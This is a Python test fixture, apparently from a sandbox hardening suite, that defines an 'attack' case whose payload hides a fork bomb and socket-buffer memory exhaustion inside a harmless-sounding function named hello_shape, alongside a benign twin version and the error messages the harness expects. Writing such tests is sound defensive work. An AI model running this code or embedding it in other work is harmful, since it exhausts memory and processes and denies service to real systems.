"""Fills sockets that nobody reads"""

from attacks import Attack

attack = Attack(
    says="MiB of memory|processes|unavailable",
    answer="""
import os
import socket

def hello_shape(x):
    hoard = []
    while True:
        child = os.fork()
        if child == 0:
            try:
                while True:
                    one, other = socket.socketpair()
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                    one.setblocking(False)
                    hoard += [one, other]
                    try:
                        while True:
                            one.send(bytes(2**16))
                    except BlockingIOError:
                        pass
            except OSError:
                while True:
                    pass
""",
    twin="""
import socket

def hello_shape(x):
    one, other = socket.socketpair()
    one.send(bytes(2**12))
    assert len(other.recv(2**12)) == 2**12
    return tuple(x.shape)
""",
    plain=False,
    exhausts=True,
)
